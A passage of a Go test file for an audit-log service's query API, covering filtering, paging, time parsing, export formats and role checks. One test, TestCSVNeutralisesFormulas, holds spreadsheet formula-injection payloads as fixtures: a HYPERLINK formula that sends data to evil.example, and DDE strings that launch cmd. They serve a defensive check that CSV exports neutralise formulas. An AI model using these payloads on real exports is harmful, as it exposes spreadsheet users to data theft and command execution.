package api_test

import (
	"bufio"
	"bytes"
	"context"
	"encoding/base64"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/netip"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/client_golang/prometheus"

	"github.com/accessledger/accessledger/api"
	"github.com/accessledger/accessledger/client/evidence"
	"github.com/accessledger/accessledger/ledger"
	"github.com/accessledger/accessledger/ledger/index"
)

// queryServer is a ledger, its index (following it) and the API over
// both, on loopback.
type queryServer struct {
	*testServer
	x   *index.Index
	reg *prometheus.Registry
}

// newQueryServer serves a real ledger and its index; adjust, if given,
// changes the ledger's configuration.
func newQueryServer(t testing.TB, adjust ...func(*ledger.Config)) *queryServer {
	t.Helper()
	return newQueryServerAPI(t, nil, adjust...)
}

// newQueryServerAPI is newQueryServer with the API's configuration
// adjusted by adjustAPI (its keys, its clock), if not nil.
func newQueryServerAPI(t testing.TB, adjustAPI func(*api.Config), adjust ...func(*ledger.Config)) *queryServer {
	t.Helper()
	reg := prometheus.NewRegistry()
	kr, tokens := newKeys(t)
	l, _ := newTestLedger(t, func(c *ledger.Config) {
		c.Registerer = reg
		for _, a := range adjust {
			a(c)
		}
	})
	x, err := index.Open(bg, index.Config{Dir: t.TempDir(), Log: l, Registerer: reg})
	if err != nil {
		t.Fatalf("index.Open() = %v", err)
	}
	ctx, cancel := context.WithCancel(bg)
	done := make(chan error, 1)
	go func() { done <- x.Run(ctx) }()
	acfg := api.Config{Ledger: l, Keys: kr, Gatherer: reg, Registerer: reg, Index: x}
	if adjustAPI != nil {
		adjustAPI(&acfg)
	}
	s, err := api.New(acfg)
	if err != nil {
		t.Fatalf("api.New() = %v", err)
	}
	srv := httptest.NewServer(s.Handler())
	t.Cleanup(func() {
		srv.Close()
		cancel()
		<-done
		x.Close()
	})
	return &queryServer{testServer: &testServer{l: l, api: s, srv: srv, tokens: tokens}, x: x, reg: reg}
}

// qevent is a generated event as the test knows it.
type qevent struct {
	actor, ip, action, outcome, service string
	time                                time.Time
	index                               uint64
}

var qt0 = time.Date(2026, 6, 1, 0, 0, 0, 0, time.UTC)

// qevents generates events first..first+n-1.
func qevents(first, n int) []qevent {
	var out []qevent
	actions := []string{"login", "logout", "read", "update", "grant"}
	for i := first; i < first+n; i++ {
		ip := fmt.Sprintf("203.0.113.%d", i%200)
		if i%3 == 0 {
			ip = netip.MustParseAddr(fmt.Sprintf("2001:db8:%x::%x", i%4, i%50+1)).String()
		}
		out = append(out, qevent{
			actor:   fmt.Sprintf("user-%d", i%17),
			ip:      ip,
			action:  actions[i%len(actions)],
			outcome: []string{"success", "failure"}[i%7/5],
			service: []string{"sso", "crm", "vpn"}[i%3],
			time:    qt0.Add(time.Duration(i) * 37 * time.Second),
		})
	}
	return out
}

func (e qevent) json(i int) []byte {
	m := map[string]any{
		"id": fmt.Sprintf("q-%d", i), "time": e.time.Format(time.RFC3339Nano), "service": e.service,
		"actor": map[string]any{"id": e.actor, "type": "user"}, "source": map[string]any{"ip": e.ip, "user_agent": "ua/1"},
		"action": e.action, "category": "authentication", "outcome": e.outcome,
		"resource": map[string]any{"type": "doc", "id": fmt.Sprintf("d%d", i%5)},
	}
	b, _ := json.Marshal(m)
	return b
}

// post appends events over HTTP and records their indexes.
func (qs *queryServer) post(t testing.TB, first int, evs []qevent) {
	t.Helper()
	for done := 0; done < len(evs); {
		k := min(500, len(evs)-done)
		var bodies [][]byte
		for j := done; j < done+k; j++ {
			bodies = append(bodies, evs[j].json(first+j))
		}
		r := qs.testServer.post(t, "application/json", batchJSON(bodies...))
		if r.status != http.StatusCreated {
			t.Fatalf("POST = %v", r)
		}
		var res struct{ Results []appendResult }
		if err := json.Unmarshal(r.body, &res); err != nil {
			t.Fatal(err)
		}
		for j, a := range res.Results {
			evs[done+j].index = *a.Index
		}
		done += k
	}
	size, _ := qs.l.Size()
	ctx, cancel := context.WithTimeout(bg, 30*time.Second)
	defer cancel()
	if err := qs.x.Wait(ctx, size); err != nil {
		t.Fatalf("Index.Wait(%d) = %v", size, err)
	}
}

// eventsPage mirrors a page of GET /v1/events.
type eventsPage struct {
	IndexedSize uint64 `json:"indexed_size"`
	Events      []struct {
		Index    uint64          `json:"index"`
		LeafHash string          `json:"leaf_hash"`
		Entry    json.RawMessage `json:"entry"`
	} `json:"events"`
	Next string `json:"next"`
}

func (qs *queryServer) page(t testing.TB, query string) eventsPage {
	t.Helper()
	r := qs.get(t, "/v1/events?"+query, qs.auditor())
	if r.status != http.StatusOK {
		t.Fatalf("GET /v1/events?%s = %v", query, r)
	}
	var p eventsPage
	decodeStrict(t, "events page", r.body, &p)
	if got := r.header.Get("Accessledger-Indexed-Size"); got != strconv.FormatUint(p.IndexedSize, 10) {
		t.Errorf("Accessledger-Indexed-Size = %q, want %d", got, p.IndexedSize)
	}
	for _, e := range p.Events {
		h := leafHashB64(e.Entry)
		if e.LeafHash != h {
			t.Errorf("event %d: leaf_hash %s, want %s", e.Index, e.LeafHash, h)
		}
	}
	return p
}

func leafHashB64(entry []byte) string {
	h := leafHash(entry)
	return base64.StdEncoding.EncodeToString(h[:])
}

// pageAll follows next cursors until a short page.
func (qs *queryServer) pageAll(t testing.TB, query string, limit int) []uint64 {
	t.Helper()
	var got []uint64
	q := query + "&limit=" + strconv.Itoa(limit)
	for range 10_000 {
		p := qs.page(t, q)
		for _, e := range p.Events {
			got = append(got, e.Index)
		}
		if len(p.Events) < limit || p.Next == "" {
			return got
		}
		q = query + "&limit=" + strconv.Itoa(limit) + "&cursor=" + p.Next
	}
	t.Fatal("too many pages")
	return nil
}

func want(evs []qevent, keep func(qevent) bool) []uint64 {
	var out []uint64
	for _, e := range evs {
		if keep(e) {
			out = append(out, e.index)
		}
	}
	slices.Sort(out)
	return out
}

func TestQueryEvents(t *testing.T) {
	qs := newQueryServer(t)
	evs := qevents(0, 1500)
	qs.post(t, 0, evs)

	for _, tc := range []struct {
		name  string
		query string
		keep  func(qevent) bool
	}{
		{"All", "", func(qevent) bool { return true }},
		{"Actor", "actor=user-3", func(e qevent) bool { return e.actor == "user-3" }},
		{"ActorOr", "actor=user-3&actor=user-4", func(e qevent) bool { return e.actor == "user-3" || e.actor == "user-4" }},
		{"SourceIP", "source_ip=203.0.113.7", func(e qevent) bool { return e.ip == "203.0.113.7" }},
		{"CIDR", "cidr=203.0.113.0/28", func(e qevent) bool {
			return strings.HasPrefix(e.ip, "203.0.113.") && func() bool { n, _ := strconv.Atoi(e.ip[len("203.0.113."):]); return n < 16 }()
		}},
		{"CIDR6", "cidr=2001:db8:2::/48", func(e qevent) bool { return strings.HasPrefix(e.ip, "2001:db8:2::") }},
		{"SourceIPOrCIDR", "source_ip=203.0.113.7&cidr=2001:db8:1::/48", func(e qevent) bool {
			return e.ip == "203.0.113.7" || strings.HasPrefix(e.ip, "2001:db8:1::")
		}},
		{"FailedLogins", "action=login&outcome=failure", func(e qevent) bool { return e.action == "login" && e.outcome == "failure" }},
		{"ServiceAndTime", "service=vpn&since=" + url.QueryEscape(qt0.Add(3*time.Hour).Format(time.RFC3339)) + "&until=" + url.QueryEscape(qt0.Add(9*time.Hour+30*time.Second).Format(time.RFC3339)),
			func(e qevent) bool {
				return e.service == "vpn" && !e.time.Before(qt0.Add(3*time.Hour)) && e.time.Before(qt0.Add(9*time.Hour+30*time.Second))
			}},
		{"Kind", "kind=event&resource_type=doc&resource_id=d2&tenant=none", func(qevent) bool { return false }},
		{"ResourceID", "kind=event&resource_type=doc&resource_id=d2", func(e qevent) bool { return int(e.index)%5 == 2 }},
	} {
		t.Run(tc.name, func(t *testing.T) {
			w := want(evs, tc.keep)
			for _, limit := range []int{1, 7, 100, 1000} {
				if limit == 1 && len(w) > 200 {
					continue
				}
				got := qs.pageAll(t, tc.query, limit)
				if !slices.Equal(got, w) {
					t.Errorf("pages of %d: %d events, want %d (first %v, want %v)", limit, len(got), len(w), got[:min(5, len(got))], w[:min(5, len(w))])
				}
				rev := slices.Clone(w)
				slices.Reverse(rev)
				if got := qs.pageAll(t, tc.query+"&order=desc", limit); !slices.Equal(got, rev) {
					t.Errorf("pages of %d in reverse: %d events, want %d", limit, len(got), len(rev))
				}
			}
			// count
			r := qs.get(t, "/v1/events/count?"+tc.query, qs.auditor())
			var cnt struct {
				Count       uint64 `json:"count"`
				IndexedSize uint64 `json:"indexed_size"`
			}
			decodeStrict(t, "count", r.body, &cnt)
			if cnt.Count != uint64(len(w)) || cnt.IndexedSize != 1500 {
				t.Errorf("count = %+v, want %d of 1500", cnt, len(w))
			}
			// NDJSON stream, asked for by Accept.
			got := qs.ndjson(t, "/v1/events?"+tc.query)
			if !slices.Equal(got, w) {
				t.Errorf("NDJSON: %d events, want %d", len(got), len(w))
			}
		})
	}
}

// ndjson streams GET path with Accept: application/x-ndjson and returns
// the indexes, checking each line.
func (qs *queryServer) ndjson(t testing.TB, path string) []uint64 {
	t.Helper()
	req, _ := http.NewRequest("GET", qs.srv.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+qs.auditor())
	req.Header.Set("Accept", "application/x-ndjson")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if resp.StatusCode != 200 || resp.Header.Get("Content-Type") != "application/x-ndjson" || resp.Header.Get("Accessledger-Indexed-Size") == "" {
		t.Fatalf("GET %s (NDJSON) = %d %v", path, resp.StatusCode, resp.Header)
	}
	var got []uint64
	sc := bufio.NewScanner(resp.Body)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		var e struct {
			Index    uint64          `json:"index"`
			LeafHash string          `json:"leaf_hash"`
			Entry    json.RawMessage `json:"entry"`
		}
		decodeStrict(t, "NDJSON line", sc.Bytes(), &e)
		if e.LeafHash != leafHashB64(e.Entry) {
			t.Errorf("line for %d: wrong leaf hash", e.Index)
		}
		got = append(got, e.Index)
	}
	if err := sc.Err(); err != nil {
		t.Fatalf("reading NDJSON: %v", err)
	}
	return got
}

// TestQueryCursorWhileGrowing pages in log order while events are
// appended between pages: the pages together are every match, new ones
// included, none twice.
func TestQueryCursorWhileGrowing(t *testing.T) {
	qs := newQueryServer(t)
	evs := qevents(0, 400)
	qs.post(t, 0, evs[:200])
	p := qs.page(t, "actor=user-5&limit=5")
	seen := []uint64{}
	for _, e := range p.Events {
		seen = append(seen, e.Index)
	}
	qs.post(t, 200, evs[200:])
	for next := p.Next; next != ""; {
		p = qs.page(t, "actor=user-5&limit=5&cursor="+next)
		for _, e := range p.Events {
			seen = append(seen, e.Index)
		}
		if len(p.Events) < 5 {
			// Ascending pages always give a cursor to resume from.
			if p.Next == "" {
				t.Errorf("a short ascending page has no next cursor")
			}
			break
		}
		next = p.Next
	}
	if w := want(evs, func(e qevent) bool { return e.actor == "user-5" }); !slices.Equal(seen, w) {
		t.Errorf("pages = %v, want %v", seen, w)
	}
	// A cursor is bound to its query and order.
	for _, q := range []string{"actor=user-6&cursor=" + p.Next, "actor=user-5&order=desc&cursor=" + p.Next, "actor=user-5&cursor=bm90LWEtY3Vyc29y"} {
		wantError(t, "GET /v1/events?"+q, qs.get(t, "/v1/events?"+q, qs.auditor()), http.StatusBadRequest)
	}
}

// TestQueryPageBoundedByBytes: a JSON page of 1000 entries of 64 KiB was
// built whole, 64 MiB and more, for each client asking. A page now stops
// taking entries once they fill about 4 MiB, short of its limit, and its
// next continues after the last entry it holds: following next, in either
// order, gets every match once, none skipped or repeated.
func TestQueryPageBoundedByBytes(t *testing.T) {
	qs := newQueryServer(t)
	const n = 200 // 200 entries of 40 to 65 KB: about 11 MB, three pages
	for first := 0; first < n; first += 10 {
		var entries []ledger.Entry
		for i := first; i < first+10; i++ {
			pad := strings.Repeat("x", 40_000+i*125)
			data := []byte(fmt.Sprintf(`{"n":%d,"pad":"%s"}`, i, pad))
			if i%7 == 3 { // not JSON: sent as entry_base64, a third larger
				data = []byte(fmt.Sprintf(`n=%d pad=%s`, i, pad))
			}
			entries = append(entries, ledger.Entry{Data: data})
		}
		if _, err := qs.l.Append(bg, entries...); err != nil {
			t.Fatal(err)
		}
	}
	ctx, cancel := context.WithTimeout(bg, 30*time.Second)
	defer cancel()
	if err := qs.x.Wait(ctx, n); err != nil {
		t.Fatal(err)
	}
	// The bound: 4 MiB of entries, then one more entry (at most 64 KiB
	// as base64) and the page's own fields.
	const maxBody = 4<<20 + 88<<10
	for _, order := range []string{"asc", "desc"} {
		var got []uint64
		pages, cursor := 0, ""
		for {
			pages++
			if pages > 20 {
				t.Fatalf("%s: more than 20 pages", order)
			}
			q := "/v1/events?limit=1000&order=" + order
			if cursor != "" {
				q += "&cursor=" + cursor
			}
			r := qs.get(t, q, qs.auditor())
			if r.status != http.StatusOK {
				t.Fatalf("GET %s = %v", q, r)
			}
			if len(r.body) > maxBody {
				t.Errorf("%s page %d: %d bytes, want at most %d", order, pages, len(r.body), maxBody)
			}
			if cl := r.header.Get("Content-Length"); cl != strconv.Itoa(len(r.body)) {
				t.Errorf("%s page %d: Content-Length %q, body %d bytes", order, pages, cl, len(r.body))
			}
			var p struct {
				IndexedSize uint64 `json:"indexed_size"`
				Events      []struct {
					Index    uint64          `json:"index"`
					LeafHash string          `json:"leaf_hash"`
					Entry    json.RawMessage `json:"entry"`
					Base64   []byte          `json:"entry_base64"`
				} `json:"events"`
				Next string `json:"next"`
			}
			decodeStrict(t, "events page", r.body, &p)
			for _, e := range p.Events {
				entry := []byte(e.Entry)
				if e.Base64 != nil {
					entry = e.Base64
				}
				if !bytes.HasPrefix(entry, fmt.Appendf(nil, `{"n":%d,`, e.Index)) && !bytes.HasPrefix(entry, fmt.Appendf(nil, `n=%d `, e.Index)) {
					t.Errorf("%s: event %d holds another entry: %.20q", order, e.Index, entry)
				}
				got = append(got, e.Index)
			}
			if len(got) < n && p.Next == "" {
				t.Errorf("%s page %d: %d events, %d of %d so far, without next", order, pages, len(p.Events), len(got), n)
			}
			if p.Next == "" || len(p.Events) == 0 {
				break
			}
			cursor = p.Next
		}
		wantIdx := make([]uint64, n)
		for i := range wantIdx {
			wantIdx[i] = uint64(i)
			if order == "desc" {
				wantIdx[i] = uint64(n - 1 - i)
			}
		}
		if !slices.Equal(got, wantIdx) {
			t.Errorf("%s: pages hold %v, want every entry once, %v", order, got, wantIdx)
		}
		if pages < 3 {
			t.Errorf("%s: %d pages for 11 MB of entries, want the pages cut by bytes", order, pages)
		}
	}
}

func TestQueryBadRequests(t *testing.T) {
	qs := newQueryServer(t)
	qs.post(t, 0, qevents(0, 10))
	for _, q := range []string{
		"/v1/events?actr=alice", "/v1/events?cidr=10.0.0.0/33", "/v1/events?cidr=nope", "/v1/events?source_ip=10.0.0.0/8",
		"/v1/events?since=yesterday", "/v1/events?category=authn", "/v1/events?outcome=ok", "/v1/events?limit=0",
		"/v1/events?limit=1001", "/v1/events?order=sideways", "/v1/events?format=xml", "/v1/events?actor=",
		"/v1/events?since=2026-01-01T00:00:00Z&since=2026-01-02T00:00:00Z", "/v1/events/count?limit=3",
		"/v1/events/top?field=reason", "/v1/events/top?field=actor.id&n=0", "/v1/evidence?limit=100001",
		"/v1/events?kind=bogus", "/v1/events/count?kind=EVENT",
		"/v1/events/count?since=2026-01-02T00:00:00Z&until=2026-01-01T00:00:00Z", "/v1/events?since=2026-01-01T00:00:00Z&until=2026-01-01T00:00:00Z",
		"/v1/events?order=desc&order=asc", "/v1/events/top?field=actor.id&field=service", "/v1/events?limit=1&limit=5",
		// Finer than a nanosecond: cut, it matched events before since.
		"/v1/events/count?since=2026-01-01T00:00:00.1234000001Z", "/v1/events?until=2026-01-01T00:00:00.0000000000Z",
	} {
		wantError(t, "GET "+q, qs.get(t, q, qs.auditor()), http.StatusBadRequest)
	}
	// A query string with a pair that does not parse is refused, not
	// answered without that pair: a dropped filter would answer for the
	// whole log.
	for _, q := range []string{
		"/v1/events/count?actor=user-1;x=1", "/v1/events/count?actor=%zz", "/v1/events?actor=user-1&since=2026-01-01T00:00:00Z;",
		"/v1/evidence?actor=%zz", "/v1/events/top?field=%zz",
	} {
		eb := wantError(t, "GET "+q, qs.get(t, q, qs.auditor()), http.StatusBadRequest)
		if !strings.Contains(eb.Error, "malformed query string") {
			t.Errorf("GET %s: error %q, want it to say the query string is malformed", q, eb.Error)
		}
	}
	if eb := wantError(t, "GET since=+01:00", qs.get(t, "/v1/events/count?since=2026-01-01T00:00:00+01:00", qs.auditor()), http.StatusBadRequest); !strings.Contains(eb.Error, "%2B") {
		t.Errorf("GET /v1/events/count?since=...+01:00: error %q, want the hint to send + as %%2B", eb.Error)
	}
	// Accept with q=0 refuses NDJSON: the answer is a JSON page.
	req, _ := http.NewRequest("GET", qs.srv.URL+"/v1/events", nil)
	req.Header.Set("Authorization", "Bearer "+qs.auditor())
	req.Header.Set("Accept", "application/x-ndjson;q=0, application/json")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if ct := resp.Header.Get("Content-Type"); resp.StatusCode != http.StatusOK || !strings.HasPrefix(ct, "application/json") {
		t.Errorf("GET /v1/events with NDJSON at q=0 = %d %s, want a JSON page", resp.StatusCode, ct)
	}
	// A stream's limit has no upper bound, and its message says so.
	if eb := wantError(t, "ndjson limit=0", qs.get(t, "/v1/events?format=ndjson&limit=0", qs.auditor()), http.StatusBadRequest); strings.Contains(eb.Error, "or stream") {
		t.Errorf("GET /v1/events?format=ndjson&limit=0: error %q tells a stream to stream", eb.Error)
	}
	// The kinds the log holds are accepted.
	for _, k := range []string{"event", "alert", "response", "admin"} {
		if r := qs.get(t, "/v1/events/count?kind="+k, qs.auditor()); r.status != http.StatusOK {
			t.Errorf("GET /v1/events/count?kind=%s = %v, want 200", k, r)
		}
	}
}

// TestQueryTimeFilters: since and until are parsed as event times are.
// The zero time (0001-01-01T00:00:00Z, or that instant at an offset) was
// taken for "not given", so until it counted every event, not none, and
// since=until= it was not the empty range it is. time.Parse took a comma
// before the fraction, and fractionDigits looked only after a '.', so
// ,1234000001 was cut to .1234; it also took offsets such as +24:00. The
// lower-case t and z RFC 3339 allows are taken, as in events.
func TestQueryTimeFilters(t *testing.T) {
	qs := newQueryServer(t)
	evs := qevents(0, 30)
	qs.post(t, 0, evs)
	count := func(query string) uint64 {
		t.Helper()
		r := qs.get(t, "/v1/events/count?"+query, qs.auditor())
		if r.status != http.StatusOK {
			t.Errorf("GET /v1/events/count?%s = %v", query, r)
			return 1 << 63
		}
		var c struct{ Count uint64 }
		if err := json.Unmarshal(r.body, &c); err != nil {
			t.Fatal(err)
		}
		return c.Count
	}
	sso := uint64(len(want(evs, func(e qevent) bool { return e.service == "sso" })))
	for _, tc := range []struct {
		query string
		want  uint64
	}{
		{"service=sso&until=0001-01-01T00:00:00Z", 0},
		{"service=sso&until=0001-01-01T01:00:00%2B01:00", 0},
		{"service=sso&until=0001-01-01T00:00:00.000000001Z", 0},
		{"service=sso&since=0001-01-01T00:00:00Z", sso},
		{"service=sso&since=0001-01-01T00:00:00Z&until=9999-12-31T23:59:59Z", sso},
		{"service=sso&since=2026-06-01t00:00:00z", sso},
		{"service=sso&since=2026-06-01T00:00:00.000000000Z", sso},
	} {
		if got := count(tc.query); got != tc.want {
			t.Errorf("count?%s = %d, want %d", tc.query, got, tc.want)
		}
	}
	// qevents are 37 s apart from qt0: since the 2nd event's time, in
	// lower case, counts the same as in upper case.
	at := evs[1].time.Format(time.RFC3339Nano)
	if lower, upper := count("since="+strings.ToLower(at)), count("since="+at); lower != upper || upper != 29 {
		t.Errorf("since=%s counts %d, since=%s %d; want 29 both", strings.ToLower(at), lower, at, upper)
	}
	for _, q := range []string{
		"/v1/events/count?since=0001-01-01T00:00:00Z&until=0001-01-01T00:00:00Z",
		"/v1/events/count?since=0001-01-01T01:00:00%2B01:00&until=0001-01-01T00:00:00Z",
		"/v1/events?since=0001-01-01T00:00:00Z&until=0001-01-01T00:00:00Z",
		"/v1/events/count?since=2026-11-20T11:11:11,1234000001Z",
		"/v1/events/count?since=2026-11-20T11:11:11,1234Z",
		"/v1/events/count?until=2026-11-20T11:11:11,5Z",
		"/v1/events/count?since=2026-11-20T11:11:11%2B24:00",
		"/v1/events/count?since=2026-11-20T11:11:11%2B00:60",
		"/v1/events/count?since=2026-11-20T11:11:11.Z",
		"/v1/events/count?since=2026-11-20T11:11:11",
		"/v1/events/count?since=2026-11-20 11:11:11Z",
		"/v1/evidence?until=2026-11-20T11:11:11,5Z",
	} {
		wantError(t, "GET "+q, qs.get(t, strings.ReplaceAll(q, " ", "%20"), qs.auditor()), http.StatusBadRequest)
	}
}

// TestOCSFLimitCountsEvents: OCSF carries events only, so the query asks
// for events alone and limit counts the records sent. Alerts before the
// events used the limit up and were then left out: limit=1 sent nothing.
func TestOCSFLimitCountsEvents(t *testing.T) {
	qs := newQueryServer(t)
	appendAlerts(t, qs.l, 0, 5)
	qs.post(t, 5, qevents(5, 10))
	for _, limit := range []int{1, 3} {
		r := qs.get(t, fmt.Sprintf("/v1/events?format=ocsf&limit=%d", limit), qs.auditor())
		if n := len(bytes.Split(bytes.TrimSpace(r.body), []byte("\n"))); r.status != 200 || len(bytes.TrimSpace(r.body)) == 0 || n != limit {
			t.Errorf("OCSF limit=%d = %d, %d records; want %d\n%s", limit, r.status, n, limit, r.body)
		}
	}
	r := qs.get(t, "/v1/events?format=ocsf&kind=alert", qs.auditor())
	if r.status != 400 || !strings.Contains(string(r.body), "events only") {
		t.Errorf("OCSF kind=alert = %v, want 400 saying OCSF carries events only", r)
	}
}

func TestQueryFormats(t *testing.T) {
	qs := newQueryServer(t)
	evs := qevents(0, 300)
	qs.post(t, 0, evs)
	w := want(evs, func(e qevent) bool { return e.service == "sso" })

	r := qs.get(t, "/v1/events?service=sso&format=csv", qs.auditor())
	if r.status != 200 || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("CSV = %v", r)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
	if err != nil {
		t.Fatalf("reading CSV: %v", err)
	}
	if len(rows) != len(w)+1 || rows[0][0] != "index" {
		t.Fatalf("CSV has %d rows, want a header and %d", len(rows), len(w))
	}
	for i, row := range rows[1:] {
		e := evs[w[i]]
		if row[0] != strconv.FormatUint(w[i], 10) || row[2] != "event" || row[6] != "sso" || row[7] != e.actor || row[10] != e.ip || row[15] != e.action {
			t.Errorf("CSV row %d = %v, want index %d of %+v", i, row, w[i], e)
		}
	}

	r = qs.get(t, "/v1/events?service=sso&format=ocsf", qs.auditor())
	if r.status != 200 {
		t.Fatalf("OCSF = %v", r)
	}
	lines := bytes.Split(bytes.TrimSpace(r.body), []byte("\n"))
	if len(lines) != len(w) {
		t.Fatalf("OCSF has %d lines, want %d", len(lines), len(w))
	}
	for i, l := range lines {
		var o struct {
			ClassUID   int                                  `json:"class_uid"`
			TypeUID    int                                  `json:"type_uid"`
			ActivityID int                                  `json:"activity_id"`
			Time       int64                                `json:"time"`
			StatusID   int                                  `json:"status_id"`
			User       *struct{ UID string }                `json:"user"`
			Actor      *struct{ User struct{ UID string } } `json:"actor"`
			API        *struct{ Operation string }          `json:"api"`
			Src        struct{ IP string }                  `json:"src_endpoint"`
			Metadata   struct {
				Version  string `json:"version"`
				UID      string `json:"uid"`
				Sequence uint64 `json:"sequence"`
			} `json:"metadata"`
		}
		if err := json.Unmarshal(l, &o); err != nil {
			t.Fatalf("OCSF line %d: %v", i, err)
		}
		e := evs[w[i]]
		wantClass, wantActivity, uid := 6003, 99, ""
		switch e.action {
		case "login":
			wantClass, wantActivity = 3002, 1
		case "logout":
			wantClass, wantActivity = 3002, 2
		case "read":
			wantActivity = 2
		case "update":
			wantActivity = 3
		}
		if wantClass == 3002 && o.User != nil {
			uid = o.User.UID
		} else if o.Actor != nil {
			uid = o.Actor.User.UID
		}
		wantStatus := 1
		if e.outcome == "failure" {
			wantStatus = 2
		}
		if o.ClassUID != wantClass || o.ActivityID != wantActivity || o.TypeUID != wantClass*100+wantActivity || uid != e.actor ||
			o.Src.IP != e.ip || o.Time != e.time.UnixMilli() || o.StatusID != wantStatus || o.Metadata.Sequence != w[i] || o.Metadata.Version == "" {
			t.Errorf("OCSF line %d = %s, want class %d activity %d for %+v", i, l, wantClass, wantActivity, e)
		}
	}

	r = qs.get(t, "/v1/events/top?field=source.ip&n=3&service=sso", qs.auditor())
	var top struct {
		Field       string             `json:"field"`
		Top         []index.ValueCount `json:"top"`
		IndexedSize uint64             `json:"indexed_size"`
	}
	decodeStrict(t, "top", r.body, &top)
	if top.Field != "source.ip" || len(top.Top) != 3 || top.IndexedSize != 300 {
		t.Errorf("top = %+v", top)
	}
	counts := map[string]uint64{}
	for _, i := range w {
		counts[evs[i].ip]++
	}
	for _, vc := range top.Top {
		if counts[vc.Value] != vc.Count {
			t.Errorf("top: %s counted %d, want %d", vc.Value, vc.Count, counts[vc.Value])
		}
	}
}

// TestCSVNeutralisesFormulas: format=csv wrote submitters' text as
// recorded, and a cell beginning with =, +, - or @ opened as a formula in
// a spreadsheet (the answer is a download, events.csv). Such a cell is now
// prefixed with a single quote; csv_raw=true writes the values exactly,
// and csv_raw is validated like every other parameter.
func TestCSVNeutralisesFormulas(t *testing.T) {
	qs := newQueryServer(t)
	formulas := map[string]string{ // column: value
		"actor_id":    `=HYPERLINK("http://evil.example/?"&A1,"open")`,
		"reason":      `+cmd|' /C calc'!A0`,
		"resource_id": `-2+3+cmd|' /C calc'!A0`,
		"user_agent":  `@SUM(1+1)*cmd|' /C calc'!A0`,
	}
	ev := event(1)
	edit(ev, "actor.id", formulas["actor_id"])
	edit(ev, "outcome", "failure")
	edit(ev, "reason", formulas["reason"])
	edit(ev, "resource.type", "doc")
	edit(ev, "resource.id", formulas["resource_id"])
	edit(ev, "source.user_agent", formulas["user_agent"])
	plain := edit(event(2), "source.user_agent", "curl/8.5 =not-first")
	if r := qs.testServer.post(t, "application/json", batchJSON(mustJSON(t, ev), mustJSON(t, plain))); r.status != http.StatusCreated {
		t.Fatalf("POST = %v", r)
	}
	ctx, cancel := context.WithTimeout(bg, 30*time.Second)
	defer cancel()
	if err := qs.x.Wait(ctx, 2); err != nil {
		t.Fatal(err)
	}
	page := qs.page(t, "limit=2")
	csvRows := func(query string) [][]string {
		t.Helper()
		r := qs.get(t, "/v1/events?format=csv"+query, qs.auditor())
		if r.status != http.StatusOK {
			t.Fatalf("GET format=csv%s = %v", query, r)
		}
		rows, err := csv.NewReader(bytes.NewReader(r.body)).ReadAll()
		if err != nil || len(rows) != 3 {
			t.Fatalf("GET format=csv%s: %d rows, %v", query, len(rows), err)
		}
		return rows
	}
	for _, tc := range []struct {
		query string
		raw   bool
	}{{"", false}, {"&csv_raw=false", false}, {"&csv_raw=true", true}} {
		rows := csvRows(tc.query)
		col := map[string]int{}
		for k, name := range rows[0] {
			col[name] = k
		}
		for name, v := range formulas {
			want := "'" + v
			if tc.raw {
				want = v
			}
			if got := rows[1][col[name]]; got != want {
				t.Errorf("format=csv%s: %s = %q, want %q", tc.query, name, got, want)
			}
		}
		if got := rows[2][col["user_agent"]]; got != "curl/8.5 =not-first" {
			t.Errorf("format=csv%s: a plain user_agent = %q, want it as recorded", tc.query, got)
		}
		for k, e := range page.Events { // the hash stays exact, whatever it begins with
			if got := rows[k+1][col["leaf_hash"]]; got != e.LeafHash {
				t.Errorf("format=csv%s: leaf_hash %q, want %q", tc.query, got, e.LeafHash)
			}
		}
	}
	for _, q := range []string{
		"/v1/events?format=csv&csv_raw=yes", "/v1/events?format=csv&csv_raw=", "/v1/events?format=csv&csv_raw=true&csv_raw=true",
		"/v1/events?format=ndjson&csv_raw=true", "/v1/events?csv_raw=true", "/v1/events/count?csv_raw=true",
	} {
		wantError(t, "GET "+q, qs.get(t, q, qs.auditor()), http.StatusBadRequest)
	}
}

func TestEvidenceEndpoint(t *testing.T) {
	qs := newQueryServer(t)
	evs := qevents(0, 700)
	qs.post(t, 0, evs)
	if _, err := qs.l.SignCheckpoint(bg); err != nil {
		t.Fatal(err)
	}
	r := qs.get(t, "/v1/evidence?actor=user-2&action=login", qs.auditor())
	if r.status != 200 {
		t.Fatalf("GET /v1/evidence = %v", r)
	}
	sum, err := evidence.Verify(bytes.NewReader(r.body), qs.l.VerifierKey())
	if err != nil {
		t.Fatalf("evidence.Verify() = %v", err)
	}
	w := want(evs, func(e qevent) bool { return e.actor == "user-2" && e.action == "login" })
	if sum.Entries != uint64(len(w)) || sum.Size != 700 || sum.Query != "action=login&actor=user-2" {
		t.Errorf("evidence = %+v, want %d entries against size 700", sum, len(w))
	}
	// More matches than the limit: refused, not cut.
	wantError(t, "evidence over its limit", qs.get(t, "/v1/evidence?action=login&limit=10", qs.auditor()), http.StatusBadRequest)
}

// TestQueryRoles: the query and evidence endpoints are for auditors (and
// admins) only.
func TestQueryRoles(t *testing.T) {
	qs := newQueryServer(t)
	qs.post(t, 0, qevents(0, 5))
	if _, err := qs.l.SignCheckpoint(bg); err != nil {
		t.Fatal(err)
	}
	for _, path := range []string{"/v1/events", "/v1/events?format=csv", "/v1/events/count", "/v1/events/top?field=actor.id", "/v1/evidence"} {
		for _, tc := range []struct {
			token string
			want  int
		}{
			{"", http.StatusUnauthorized},
			{qs.submitter(), http.StatusForbidden},
			{qs.responder(), http.StatusForbidden},
			{qs.auditor(), http.StatusOK},
			{qs.admin(), http.StatusOK},
		} {
			if r := qs.get(t, path, tc.token); r.status != tc.want {
				t.Errorf("GET %s = %v, want %d", path, r, tc.want)
			}
		}
	}
}

func TestQueryWithoutIndex(t *testing.T) {
	ts := newTestServer(t)
